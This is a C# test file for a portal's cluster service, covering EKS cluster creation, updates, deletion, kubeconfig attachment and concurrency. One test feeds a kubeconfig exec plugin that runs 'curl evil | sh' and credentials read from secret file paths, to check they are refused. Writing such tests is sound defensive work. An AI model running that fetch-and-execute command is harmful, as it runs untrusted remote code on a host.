using System.Text;
using Hangfire;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Portal.Core.Access;
using Portal.Core.Clusters;
using Portal.Core.Common;
using Portal.Core.Environments;
using Portal.Core.Events;
using Portal.Core.Persistence;
using Portal.Core.Teams;
using Portal.Core.Tests.Infrastructure;
using Portal.Testing;

namespace Portal.Core.Tests.Clusters;

public abstract class ClusterServiceTests(PortalDatabaseFixture database) : ServiceTests(database)
{
    private const string Account = "123456789012";
    private const string RoleArn = "arn:aws:iam::123456789012:role/unicron-provisioner";

    private ClusterService Clusters => Get<ClusterService>();
    private RecordingJobClient Jobs => (RecordingJobClient)Get<IBackgroundJobClient>();

    private readonly WorkerWritesFirst _workerWritesFirst = new();

    protected override void Configure(IServiceCollection services)
    {
        services.AddSingleton<IBackgroundJobClient, RecordingJobClient>();
        services.ConfigureDbContext<PortalDbContext>(b => b.AddInterceptors(_workerWritesFirst));
    }

    /// <summary>
    /// When armed, lets "a worker" write the cluster (bumping its version) just before the next save, as a reconciler
    /// writing status between a user's read and write would.
    /// </summary>
    private sealed class WorkerWritesFirst : Microsoft.EntityFrameworkCore.Diagnostics.SaveChangesInterceptor
    {
        public Func<Task>? Next;

        public override async ValueTask<Microsoft.EntityFrameworkCore.Diagnostics.InterceptionResult<int>> SavingChangesAsync(
            Microsoft.EntityFrameworkCore.Diagnostics.DbContextEventData eventData,
            Microsoft.EntityFrameworkCore.Diagnostics.InterceptionResult<int> result, CancellationToken cancellationToken = default)
        {
            if (Interlocked.Exchange(ref Next, null) is { } write) await write();
            return result;
        }
    }

    private Func<Task> StatusWriteBy(Guid clusterId) => async () =>
    {
        await using var db = Database.CreateContext();
        await db.Clusters.Where(c => c.Id == clusterId)
            .ExecuteUpdateAsync(u => u.SetProperty(c => c.Version, c => c.Version + 1).SetProperty(c => c.Message, "worker was here"), Ct);
    };

    [Fact]
    public async Task UpdateCluster_WithoutIfMatch_WhileAWorkerWritesStatus_IsAppliedNot412()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        _workerWritesFirst.Next = StatusWriteBy(created.Cluster.Id);

        var updated = await Clusters.UpdateClusterAsync(owner, team.Slug, "main", new ClusterChanges(NodePools: [Pool(desired: 3)]), null, Ct);

        Assert.Equal(2, updated.Cluster.Generation);
        await using var db = Database.CreateContext();
        var stored = await db.Clusters.Include(c => c.NodePools).SingleAsync(c => c.Id == created.Cluster.Id, Ct);
        Assert.Equal((3, "worker was here"), (stored.NodePools.Single().DesiredSize, stored.Message));
    }

    [Fact]
    public async Task UpdateCluster_WithAnIfMatchAWorkerOvertook_Is412()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        _workerWritesFirst.Next = StatusWriteBy(created.Cluster.Id);

        await Assert.ThrowsAsync<PreconditionFailedException>(() =>
            Clusters.UpdateClusterAsync(owner, team.Slug, "main", new ClusterChanges(NodePools: [Pool(desired: 3)]), created.Cluster.Version, Ct));
    }

    private static NodePoolSpec Pool(string name = "general", string type = "m5.large", int min = 1, int desired = 2, int max = 3,
        CapacityType capacity = CapacityType.OnDemand, IReadOnlyList<NodeTaint>? taints = null) =>
        new(name, [type], capacity, min, desired, max, Taints: taints);

    private static NewCluster Request(string name = "main", EnvironmentName environment = EnvironmentName.Dev, string? version = "1.32", params NodePoolSpec[] pools) =>
        new(name, environment, pools.Length == 0 ? [Pool()] : pools, version);

    /// <summary>An owner, their team, and its dev environment.</summary>
    private async Task<(PortalActor Owner, Team Team)> TeamWithDevAsync(params EnvironmentName[] more)
    {
        var (_, owner) = await SignInAsync("owner");
        var team = await CreateTeamAsync(owner);
        foreach (var name in more.Prepend(EnvironmentName.Dev))
            await Environments.RegisterAsync(owner, team.Slug, new NewEnvironment(name, Account, "eu-west-1", RoleArn, null), Ct);
        return (owner, team);
    }

    private async Task<List<ResourceEvent>> EventsOfAsync(Guid clusterId)
    {
        await using var db = Database.CreateContext();
        return await db.ResourceEvents.Where(e => e.ResourceId == clusterId).OrderBy(e => e.Id).ToListAsync(Ct);
    }

    [Fact]
    public async Task RequestCluster_StoresPendingSpecWithOneAuditEntryOneEventAndAReconcile()
    {
        var (owner, team) = await TeamWithDevAsync();
        var lastAudit = await LastAuditIdAsync();

        var view = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);

        await using var db = Database.CreateContext();
        var stored = await db.Clusters.Include(c => c.NodePools).SingleAsync(c => c.TeamId == team.Id);
        Assert.Equal((ClusterPhase.Pending, 1L, 0L, "1.32", ClusterKind.Managed, 1L), (stored.Phase, stored.Generation, stored.ObservedGeneration, stored.KubernetesVersion, stored.Kind, stored.Version));
        Assert.Equal($"{team.Slug}-dev-main", stored.EksName);
        var pool = Assert.Single(stored.NodePools);
        Assert.Equal(("general", "m5.large", 1, 2, 3, NodePool.StandardAmiType, false), (pool.Name, pool.InstanceTypes.Single(), pool.MinSize, pool.DesiredSize, pool.MaxSize, pool.AmiType, pool.IsGpu));
        Assert.Empty(pool.Taints);
        var audit = Assert.Single(await AuditEntriesAfterAsync(lastAudit));
        Assert.Equal(("cluster.create", $"{team.Slug}/main", team.Id), (audit.Action, audit.TargetId, audit.TeamId));
        var evt = Assert.Single(await EventsOfAsync(stored.Id));
        Assert.Equal(("requested", EventOutcome.Info, "cluster"), (evt.Step, evt.Outcome, evt.ResourceType));
        Assert.Single(Jobs.ReconcilesOf(stored.Id));
        Assert.Equal(EnvironmentName.Dev, view.Environment);
    }

    [Fact]
    public async Task RequestCluster_WithoutVersion_UsesTheNewestSupported()
    {
        var (owner, team) = await TeamWithDevAsync();

        var view = await Clusters.RequestClusterAsync(owner, team.Slug, Request(version: null), Ct);

        Assert.Equal("1.34", view.Cluster.KubernetesVersion);
    }

    [Fact]
    public async Task RequestCluster_WithInvalidSpec_NamesEveryFieldAndStoresNothing()
    {
        var (owner, team) = await TeamWithDevAsync();
        var request = new NewCluster("Main_Cluster", EnvironmentName.Dev,
        [
            new NodePoolSpec("general", ["m5.large"], CapacityType.OnDemand, 5, 4, 3, DiskSizeGiB: 10),
            new NodePoolSpec("gpu", ["m5.huge", "g5.xlarge", "m5.large"], CapacityType.Spot, 0, 0, 1000,
                Taints: [new NodeTaint("bad key!", null, TaintEffect.NoSchedule)]),
            new NodePoolSpec("general", ["c5.large"], CapacityType.OnDemand, 0, 0, 1),
        ], "1.29", Tags: new Dictionary<string, string> { ["aws:owner"] = "x" });

        var error = await Assert.ThrowsAsync<DomainValidationException>(() => Clusters.RequestClusterAsync(owner, team.Slug, request, Ct));

        Assert.Equivalent(new[]
        {
            "name", "kubernetesVersion", "tags.aws:owner",
            "nodePools[0].minSize", "nodePools[0].desiredSize", "nodePools[0].diskSizeGiB",
            "nodePools[1].instanceTypes[0]", "nodePools[1].instanceTypes", "nodePools[1].maxSize", "nodePools[1].taints[0].key",
            "nodePools[2].name",
        }, error.Errors.Keys.ToArray(), strict: true);
        await using var db = Database.CreateContext();
        Assert.False(await db.Clusters.AnyAsync(c => c.TeamId == team.Id));
    }

    [Fact]
    public async Task RequestCluster_GpuPool_GetsTheNvidiaAmiAndTheGpuTaint()
    {
        var (owner, team) = await TeamWithDevAsync();

        var view = await Clusters.RequestClusterAsync(owner, team.Slug,
            Request(pools: [Pool(), Pool("gpu", "g5.xlarge", 0, 0, 2, CapacityType.Spot, [new NodeTaint("team", "ml", TaintEffect.PreferNoSchedule)])]), Ct);

        var gpu = view.Cluster.NodePools.Single(p => p.Name == "gpu");
        Assert.True(gpu.IsGpu);
        Assert.Equal(NodePool.NvidiaAmiType, gpu.AmiType);
        Assert.Equal([new NodeTaint("team", "ml", TaintEffect.PreferNoSchedule), new NodeTaint("nvidia.com/gpu", "true", TaintEffect.NoSchedule)], gpu.Taints);
        await using var db = Database.CreateContext();
        var stored = await db.NodePools.SingleAsync(p => p.ClusterId == view.Cluster.Id && p.Name == "gpu");
        Assert.Equal((NodePool.NvidiaAmiType, CapacityType.Spot, 2), (stored.AmiType, stored.CapacityType, stored.Taints.Count));
        Assert.Contains(NodePool.GpuTaint, stored.Taints);
    }

    [Fact]
    public async Task RequestCluster_WithoutARegisteredEnvironment_IsRefusedOnEnvironment()
    {
        var (owner, team) = await TeamWithDevAsync();

        var error = await Assert.ThrowsAsync<DomainValidationException>(() =>
            Clusters.RequestClusterAsync(owner, team.Slug, Request(environment: EnvironmentName.Prod), Ct));

        Assert.Contains("environment", error.Errors.Keys);
        Assert.Empty(Jobs.Jobs);
    }

    [Fact]
    public async Task RequestCluster_SecondInTheSameEnvironment_Returns409()
    {
        var (owner, team) = await TeamWithDevAsync();
        await Clusters.RequestClusterAsync(owner, team.Slug, Request("one"), Ct);

        var conflict = await Assert.ThrowsAsync<ConflictException>(() => Clusters.RequestClusterAsync(owner, team.Slug, Request("two"), Ct));

        Assert.Equal("environment", conflict.Field);
    }

    [Fact]
    public async Task RequestCluster_WithANameTheTeamUses_Returns409()
    {
        var (owner, team) = await TeamWithDevAsync(EnvironmentName.Staging);
        await Clusters.RequestClusterAsync(owner, team.Slug, Request("main"), Ct);

        var conflict = await Assert.ThrowsAsync<ConflictException>(() =>
            Clusters.RequestClusterAsync(owner, team.Slug, Request("main", EnvironmentName.Staging), Ct));

        Assert.Equal("name", conflict.Field);
    }

    [Fact]
    public async Task RequestCluster_AsViewer_IsForbidden_AndOutsidersDoNotSeeTheTeam()
    {
        var (owner, team) = await TeamWithDevAsync();
        var (_, viewer) = await AddMemberAsync(owner, team, TeamRole.Viewer, "viewer");
        var (_, outsider) = await SignInAsync("outsider");

        await Assert.ThrowsAsync<ForbiddenException>(() => Clusters.RequestClusterAsync(viewer, team.Slug, Request(), Ct));
        await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        await Assert.ThrowsAsync<NotFoundException>(() => Clusters.GetAsync(outsider, team.Slug, "main", Ct));
        Assert.Equal("main", (await Clusters.GetAsync(viewer, team.Slug, "main", Ct)).Cluster.Name);
    }

    [Fact]
    public async Task UpdateCluster_UpgradesOneMinor_AndBumpsGenerationOnce()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        var lastAudit = await LastAuditIdAsync();

        var view = await Clusters.UpdateClusterAsync(owner, team.Slug, "main", new ClusterChanges(KubernetesVersion: "1.33"), created.Cluster.Version, Ct);

        Assert.Equal(("1.33", 2L), (view.Cluster.KubernetesVersion, view.Cluster.Generation));
        var audit = Assert.Single(await AuditEntriesAfterAsync(lastAudit));
        Assert.Equal("cluster.update", audit.Action);
        Assert.Contains("\"kubernetesVersion\":\"1.32\"", audit.BeforeJson);
        Assert.Contains("\"kubernetesVersion\":\"1.33\"", audit.AfterJson);
        Assert.Equal(["requested", "spec-changed"], (await EventsOfAsync(created.Cluster.Id)).Select(e => e.Step));
        Assert.Equal(2, Jobs.ReconcilesOf(created.Cluster.Id).Count);
    }

    [Theory]
    [InlineData("1.34", "one minor version at a time")]
    [InlineData("1.31", "must be one of the supported versions")]
    public async Task UpdateCluster_SkippingAMinorOrLeavingTheList_IsRefusedOnKubernetesVersion(string version, string expected)
    {
        var (owner, team) = await TeamWithDevAsync();
        await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);

        var error = await Assert.ThrowsAsync<DomainValidationException>(() =>
            Clusters.UpdateClusterAsync(owner, team.Slug, "main", new ClusterChanges(KubernetesVersion: version), null, Ct));

        Assert.Contains(expected, string.Join(" ", error.Errors["kubernetesVersion"]));
    }

    [Fact]
    public async Task UpdateCluster_Downgrade_IsRefusedOnKubernetesVersion()
    {
        var (owner, team) = await TeamWithDevAsync();
        await Clusters.RequestClusterAsync(owner, team.Slug, Request(version: "1.33"), Ct);

        var error = await Assert.ThrowsAsync<DomainValidationException>(() =>
            Clusters.UpdateClusterAsync(owner, team.Slug, "main", new ClusterChanges(KubernetesVersion: "1.32"), null, Ct));

        Assert.Contains("downgraded", string.Join(" ", error.Errors["kubernetesVersion"]));
        Assert.Equal(1L, (await Clusters.GetAsync(owner, team.Slug, "main", Ct)).Cluster.Generation);
    }

    [Fact]
    public async Task UpdateCluster_WhileTheLastUpgradeIsRunning_Returns409()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        await Clusters.UpdateClusterAsync(owner, team.Slug, "main", new ClusterChanges(KubernetesVersion: "1.33"), null, Ct);
        await using (var db = Database.CreateContext())
            await db.Clusters.Where(c => c.Id == created.Cluster.Id).ExecuteUpdateAsync(s => s.SetProperty(c => c.CurrentVersion, "1.32"), Ct);

        var conflict = await Assert.ThrowsAsync<ConflictException>(() =>
            Clusters.UpdateClusterAsync(owner, team.Slug, "main", new ClusterChanges(KubernetesVersion: "1.34"), null, Ct));

        Assert.Equal("kubernetesVersion", conflict.Field);
    }

    [Fact]
    public async Task UpdateCluster_ScalesAddsAndRemovesPools_InOneGeneration()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(pools: [Pool("general"), Pool("batch", "c5.large")]), Ct);
        var lastAudit = await LastAuditIdAsync();

        var view = await Clusters.UpdateClusterAsync(owner, team.Slug, "main",
            new ClusterChanges(NodePools: [Pool("general", min: 2, desired: 4, max: 10), Pool("gpu", "g5.xlarge", 0, 0, 2)]), null, Ct);

        Assert.Equal(2L, view.Cluster.Generation);
        await using var db = Database.CreateContext();
        var pools = await db.NodePools.Where(p => p.ClusterId == created.Cluster.Id).OrderBy(p => p.Name).ToListAsync(Ct);
        Assert.Equal(["general", "gpu"], pools.Select(p => p.Name));
        Assert.Equal((2, 4, 10), (pools[0].MinSize, pools[0].DesiredSize, pools[0].MaxSize));
        Assert.Equal(created.Cluster.NodePools.Single(p => p.Name == "general").Id, pools[0].Id);
        Assert.Equal(NodePool.NvidiaAmiType, pools[1].AmiType);
        Assert.Single(await AuditEntriesAfterAsync(lastAudit));
        Assert.Equal(2, (await EventsOfAsync(created.Cluster.Id)).Count);
    }

    [Fact]
    public async Task UpdateCluster_ThatChangesNothing_KeepsTheGenerationAndWritesNothing()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        var lastAudit = await LastAuditIdAsync();

        var view = await Clusters.UpdateClusterAsync(owner, team.Slug, "main", new ClusterChanges(KubernetesVersion: "1.32", NodePools: [Pool()]), null, Ct);

        Assert.Equal((1L, created.Cluster.Version), (view.Cluster.Generation, view.Cluster.Version));
        Assert.Empty(await AuditEntriesAfterAsync(lastAudit));
        Assert.Single(Jobs.ReconcilesOf(created.Cluster.Id));
    }

    [Fact]
    public async Task UpdateCluster_ChangingAnExistingPoolsInstanceTypes_IsRefused()
    {
        var (owner, team) = await TeamWithDevAsync();
        await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);

        var error = await Assert.ThrowsAsync<DomainValidationException>(() => Clusters.UpdateClusterAsync(owner, team.Slug, "main",
            new ClusterChanges(NodePools: [Pool("general", "c5.large", capacity: CapacityType.Spot)]), null, Ct));

        Assert.Equivalent(new[] { "nodePools[0].instanceTypes", "nodePools[0].capacityType" }, error.Errors.Keys.ToArray(), strict: true);
    }

    [Fact]
    public async Task UpdateCluster_WithAStaleVersion_Returns412()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        await Clusters.UpdateClusterAsync(owner, team.Slug, "main", new ClusterChanges(Tags: new Dictionary<string, string> { ["owner"] = "a" }), created.Cluster.Version, Ct);

        await Assert.ThrowsAsync<PreconditionFailedException>(() => Clusters.UpdateClusterAsync(owner, team.Slug, "main",
            new ClusterChanges(Tags: new Dictionary<string, string> { ["owner"] = "b" }), created.Cluster.Version, Ct));
    }

    [Fact]
    public async Task DeleteCluster_MarksItDeletingWithANewGeneration_AndFurtherChangesAre409()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        var lastAudit = await LastAuditIdAsync();

        var view = await Clusters.DeleteClusterAsync(owner, team.Slug, "main", created.Cluster.Version, Ct);
        await Clusters.DeleteClusterAsync(owner, team.Slug, "main", null, Ct);

        Assert.Equal((ClusterPhase.Deleting, 2L, Clock.GetUtcNow()), (view.Cluster.Phase, view.Cluster.Generation, view.Cluster.DeletionRequestedAt!.Value));
        Assert.Equal("cluster.delete", Assert.Single(await AuditEntriesAfterAsync(lastAudit)).Action);
        Assert.Equal("deletion-requested", (await EventsOfAsync(created.Cluster.Id)).Last().Step);
        Assert.Equal(2, Jobs.ReconcilesOf(created.Cluster.Id).Count);
        await Assert.ThrowsAsync<ConflictException>(() =>
            Clusters.UpdateClusterAsync(owner, team.Slug, "main", new ClusterChanges(KubernetesVersion: "1.33"), null, Ct));
    }

    private const string Kubeconfig = """
        apiVersion: v1
        kind: Config
        clusters:
        - name: onprem
          cluster:
            server: https://k8s.example.test:6443
            certificate-authority-data: Q0EgREFUQQ==
        contexts:
        - name: onprem
          context: {cluster: onprem, user: admin}
        current-context: onprem
        users:
        - name: admin
          user:
            token: s3cr3t-bearer-token-value
        """;

    [Fact]
    public async Task AttachCluster_StoresTheKubeconfigEncrypted_AndRefusesLifecycleOperations()
    {
        var (owner, team) = await TeamWithDevAsync();
        var lastAudit = await LastAuditIdAsync();

        var view = await Clusters.AttachClusterAsync(owner, team.Slug, new AttachedCluster("onprem", EnvironmentName.Dev, Kubeconfig, "1.31"), Ct);

        Assert.Equal((ClusterPhase.Attached, ClusterKind.Attached, "https://k8s.example.test:6443"), (view.Cluster.Phase, view.Cluster.Kind, view.Cluster.KubernetesEndpoint));
        await using var db = Database.CreateContext();
        var stored = await db.Clusters.SingleAsync(c => c.Id == view.Cluster.Id);
        var bytes = stored.ProtectedKubeconfig!;
        Assert.DoesNotContain("s3cr3t-bearer-token-value", Encoding.UTF8.GetString(bytes));
        Assert.DoesNotContain("s3cr3t-bearer-token-value", Encoding.Latin1.GetString(bytes));
        Assert.Equal(Kubeconfig, Get<KubeconfigProtector>().Unprotect(bytes));
        var audit = Assert.Single(await AuditEntriesAfterAsync(lastAudit));
        Assert.Equal("cluster.attach", audit.Action);
        Assert.DoesNotContain("s3cr3t", audit.AfterJson);
        Assert.Empty(Jobs.ReconcilesOf(view.Cluster.Id));

        await Assert.ThrowsAsync<ConflictException>(() =>
            Clusters.UpdateClusterAsync(owner, team.Slug, "onprem", new ClusterChanges(KubernetesVersion: "1.32"), null, Ct));
        await Assert.ThrowsAsync<ConflictException>(() => Clusters.RetryClusterAsync(owner, team.Slug, "onprem", null, Ct));
        await Assert.ThrowsAsync<ConflictException>(() => Clusters.GetKubeconfigAsync(owner, team.Slug, "onprem", Ct));
    }

    [Fact]
    public async Task DeleteAttachedCluster_DetachesIt_ForgettingTheKubeconfig_SoTheEnvironmentCanGo()
    {
        var (owner, team) = await TeamWithDevAsync();
        var attached = await Clusters.AttachClusterAsync(owner, team.Slug, new AttachedCluster("onprem", EnvironmentName.Dev, Kubeconfig), Ct);
        var lastAudit = await LastAuditIdAsync();

        var detached = await Clusters.DeleteClusterAsync(owner, team.Slug, "onprem", null, Ct);

        Assert.True(detached.Cluster.IsAttached);
        await using (var db = Database.CreateContext())
            Assert.False(await db.Clusters.AnyAsync(c => c.Id == attached.Cluster.Id, Ct));
        var audit = Assert.Single(await AuditEntriesAfterAsync(lastAudit));
        Assert.Equal(("cluster.detach", $"{team.Slug}/onprem"), (audit.Action, audit.TargetId));
        Assert.DoesNotContain("s3cr3t", audit.BeforeJson);
        Assert.Equal("detached", (await EventsOfAsync(attached.Cluster.Id)).Last().Step);
        // No cloud work: nothing for a worker to do.
        Assert.Empty(Jobs.ReconcilesOf(attached.Cluster.Id));
        await Assert.ThrowsAsync<NotFoundException>(() => Clusters.GetAsync(owner, team.Slug, "onprem", Ct));
        // Detaching is what lets a team clean up: the environment (then the team) can now be deleted.
        await Environments.DeleteAsync(owner, team.Slug, EnvironmentName.Dev, null, Ct);
    }

    [Fact]
    public async Task DeleteAttachedCluster_AsViewer_IsForbidden()
    {
        var (owner, team) = await TeamWithDevAsync();
        await Clusters.AttachClusterAsync(owner, team.Slug, new AttachedCluster("onprem", EnvironmentName.Dev, Kubeconfig), Ct);
        var (viewerUser, viewer) = await SignInAsync("viewer");
        await Members.AddMemberAsync(owner, team.Slug, viewerUser.Email, TeamRole.Viewer, Ct);

        await Assert.ThrowsAsync<ForbiddenException>(() => Clusters.DeleteClusterAsync(viewer, team.Slug, "onprem", null, Ct));
        await using var db = Database.CreateContext();
        Assert.True(await db.Clusters.AnyAsync(c => c.TeamId == team.Id && c.Name == "onprem", Ct));
    }

    /// <summary>What the reconciler writes when a step fails for good.</summary>
    private async Task FailAsync(Guid clusterId, string error)
    {
        await using var db = Database.CreateContext();
        await db.Clusters.Where(c => c.Id == clusterId).ExecuteUpdateAsync(u => u
            .SetProperty(c => c.Phase, ClusterPhase.Failed).SetProperty(c => c.LastError, error)
            .SetProperty(c => c.ObservedGeneration, c => c.Generation).SetProperty(c => c.Attempt, 3)
            .SetProperty(c => c.Version, c => c.Version + 1), Ct);
    }

    [Fact]
    public async Task DeleteAgain_AfterTheDeletionFailed_RestartsIt()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        await Clusters.DeleteClusterAsync(owner, team.Slug, "main", null, Ct);
        await FailAsync(created.Cluster.Id, "EKS refused DeleteNodegroup.");
        // A deletion still running is not restarted by asking again (checked above); a failed one is.
        var lastAudit = await LastAuditIdAsync();

        var restarted = await Clusters.DeleteClusterAsync(owner, team.Slug, "main", null, Ct);

        Assert.Equal((ClusterPhase.Deleting, null, 0), (restarted.Cluster.Phase, restarted.Cluster.LastError, restarted.Cluster.Attempt));
        Assert.Equal(2L, restarted.Cluster.Generation);
        Assert.Equal(3, Jobs.ReconcilesOf(created.Cluster.Id).Count);
        Assert.Equal("cluster.delete", Assert.Single(await AuditEntriesAfterAsync(lastAudit)).Action);
        Assert.Equal("deletion-restarted", (await EventsOfAsync(created.Cluster.Id)).Last().Step);
        await using var db = Database.CreateContext();
        var stored = await db.Clusters.SingleAsync(c => c.Id == created.Cluster.Id, Ct);
        // Due now, and in a phase the resync watches even if the enqueued job is lost.
        Assert.Equal((ClusterPhase.Deleting, Clock.GetUtcNow().ToUnixTimeMilliseconds()), (stored.Phase, stored.NextAttemptAtUnixMs));
    }

    [Fact]
    public async Task RetryCluster_OnlyWhenFailed_ClearsTheErrorAndEnqueuesAReconcile()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        await Assert.ThrowsAsync<ConflictException>(() => Clusters.RetryClusterAsync(owner, team.Slug, "main", null, Ct));
        await FailAsync(created.Cluster.Id, "EKS refused CreateNodegroup (InvalidParameterException).");
        var lastAudit = await LastAuditIdAsync();

        var retried = await Clusters.RetryClusterAsync(owner, team.Slug, "main", null, Ct);

        Assert.Equal((ClusterPhase.Provisioning, null), (retried.Cluster.Phase, retried.Cluster.LastError));
        Assert.Equal(1L, retried.Cluster.Generation);
        Assert.Equal(2, Jobs.ReconcilesOf(created.Cluster.Id).Count);
        Assert.Equal("cluster.retry", Assert.Single(await AuditEntriesAfterAsync(lastAudit)).Action);
        var evt = (await EventsOfAsync(created.Cluster.Id)).Last();
        Assert.Equal("retry-requested", evt.Step);
        Assert.Contains("EKS refused CreateNodegroup", evt.Message);
        await Assert.ThrowsAsync<ConflictException>(() => Clusters.RetryClusterAsync(owner, team.Slug, "main", null, Ct));
        await Assert.ThrowsAsync<PreconditionFailedException>(() => Clusters.RetryClusterAsync(owner, team.Slug, "main", created.Cluster.Version, Ct));
    }

    [Theory]
    [InlineData(1)]
    [InlineData(3)]
    public async Task ConcurrentCreates_InOneEnvironment_ExactlyTheAllowedNumberSucceed_TheRestAre409(int allowed)
    {
        Get<Microsoft.Extensions.Options.IOptions<ClusterOptions>>().Value.MaxClustersPerEnvironment = allowed;
        var (owner, team) = await TeamWithDevAsync();
        const int attempts = 12;

        // Each request runs on its own DbContext and connection, as concurrent API calls do.
        using var start = new ManualResetEventSlim();
        var requests = Enumerable.Range(0, attempts).Select(i => Task.Run(async () =>
        {
            start.Wait();
            try
            {
                await Clusters.RequestClusterAsync(owner, team.Slug, Request($"c{i}"), Ct);
                return (Exception?)null;
            }
            catch (Exception e)
            {
                return e;
            }
        })).ToList();
        start.Set();
        var outcomes = await Task.WhenAll(requests);

        Assert.Equal(allowed, outcomes.Count(e => e is null));
        Assert.All(outcomes.Where(e => e is not null), e =>
        {
            var conflict = Assert.IsType<ConflictException>(e);
            Assert.Contains("environment", conflict.Message);
        });
        await using var db = Database.CreateContext();
        Assert.Equal(allowed, await db.Clusters.CountAsync(c => c.TeamId == team.Id, Ct));
        Assert.Equal(allowed, await db.AuditEntries.CountAsync(a => a.TeamId == team.Id && a.Action == "cluster.create", Ct));
    }

    [Fact]
    public async Task AttachCluster_WithAnInsecureOrBrokenKubeconfig_IsRefusedOnKubeconfig()
    {
        var (owner, team) = await TeamWithDevAsync();

        foreach (var bad in new[] { "not: [yaml", "apiVersion: v1\nclusters: []", Kubeconfig.Replace("https://", "http://") })
        {
            var error = await Assert.ThrowsAsync<DomainValidationException>(() =>
                Clusters.AttachClusterAsync(owner, team.Slug, new AttachedCluster("onprem", EnvironmentName.Dev, bad), Ct));
            Assert.Contains("kubeconfig", error.Errors.Keys);
        }
    }

    [Theory]
    [InlineData("    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: [-c, 'curl evil | sh']\n")]
    [InlineData("    auth-provider:\n      name: gcp\n")]
    [InlineData("    tokenFile: /var/run/secrets/portal/token\n")]
    [InlineData("    client-certificate: /etc/portal/tls.crt\n    client-key: /etc/portal/tls.key\n")]
    public async Task AttachCluster_WithCredentialsThatRunACommandOrReadAFile_IsRefusedAndNothingIsStored(string user)
    {
        // The worker hands a stored kubeconfig to the client library, which runs exec plugins and reads files while it
        // builds its configuration: such a kubeconfig must never be stored.
        var (owner, team) = await TeamWithDevAsync();
        var kubeconfig = $"apiVersion: v1\nkind: Config\nclusters:\n- name: c\n  cluster:\n    server: https://10.0.0.1:6443\n" +
                         $"    certificate-authority-data: TFMwdExTMUNSVWRKVGlCRFJWSlVTVVpKUTBGVVJTMHRMUzB0Q2c9PQ==\nusers:\n- name: u\n  user:\n{user}" +
                         "contexts:\n- name: ctx\n  context: {cluster: c, user: u}\ncurrent-context: ctx\n";

        var error = await Assert.ThrowsAsync<DomainValidationException>(() =>
            Clusters.AttachClusterAsync(owner, team.Slug, new AttachedCluster("onprem", EnvironmentName.Dev, kubeconfig), Ct));

        Assert.Contains("inline credentials", Assert.Single(error.Errors["kubeconfig"]));
        await using var db = Database.CreateContext();
        Assert.False(await db.Clusters.AnyAsync(c => c.TeamId == team.Id, Ct));
    }

    [Fact]
    public async Task GetKubeconfig_Is409UntilTheEndpointIsKnown_ThenUsesAwsEksGetTokenAndHoldsNoSecret()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        await Assert.ThrowsAsync<ConflictException>(() => Clusters.GetKubeconfigAsync(owner, team.Slug, "main", Ct));
        await using (var db = Database.CreateContext())
            await db.Clusters.Where(c => c.Id == created.Cluster.Id).ExecuteUpdateAsync(s => s
                .SetProperty(c => c.KubernetesEndpoint, "https://ABC.gr7.eu-west-1.eks.amazonaws.com")
                .SetProperty(c => c.CertificateAuthority, "TFMwdExTMUNSVWRKVGlCRFJWSlVTVVpKUTBGVVJTMHRMUzB0Q2c9PQ==")
                .SetProperty(c => c.EksArn, $"arn:aws:eks:eu-west-1:{Account}:cluster/{team.Slug}-dev-main"), Ct);

        var yaml = await Clusters.GetKubeconfigAsync(owner, team.Slug, "main", Ct);

        var parsed = new YamlDotNet.Serialization.DeserializerBuilder().Build().Deserialize<Dictionary<string, object>>(yaml);
        Assert.Equal("Config", parsed["kind"]);
        var cluster = (Dictionary<object, object>)((Dictionary<object, object>)((List<object>)parsed["clusters"])[0])["cluster"];
        Assert.Equal("https://ABC.gr7.eu-west-1.eks.amazonaws.com", cluster["server"]);
        var exec = (Dictionary<object, object>)((Dictionary<object, object>)((Dictionary<object, object>)((List<object>)parsed["users"])[0])["user"])["exec"];
        Assert.Equal(("aws", Kubeconfigs.ExecApiVersion), (exec["command"], exec["apiVersion"]));
        Assert.Equal(["--region", "eu-west-1", "eks", "get-token", "--cluster-name", $"{team.Slug}-dev-main", "--output", "json", "--role-arn", RoleArn],
            ((List<object>)exec["args"]).Cast<string>());
        Assert.DoesNotContain("token:", yaml);
        Assert.DoesNotContain("client-key", yaml);
        Assert.DoesNotContain("password", yaml);
    }

    [Fact]
    public async Task ListEvents_IsNewestFirstInPages()
    {
        var (owner, team) = await TeamWithDevAsync();
        var created = await Clusters.RequestClusterAsync(owner, team.Slug, Request(), Ct);
        foreach (var desired in new[] { 1, 3, 2 })
            await Clusters.UpdateClusterAsync(owner, team.Slug, "main", new ClusterChanges(NodePools: [Pool(desired: desired)]), null, Ct);

        var first = await Clusters.ListEventsAsync(owner, team.Slug, "main", new ClusterQuery(Limit: 3), Ct);
        var second = await Clusters.ListEventsAsync(owner, team.Slug, "main", new ClusterQuery(first.NextCursor, 3), Ct);

        Assert.Equal(["spec-changed", "spec-changed", "spec-changed"], first.Items.Select(e => e.Step));
        Assert.True(first.Items[0].Id > first.Items[1].Id);
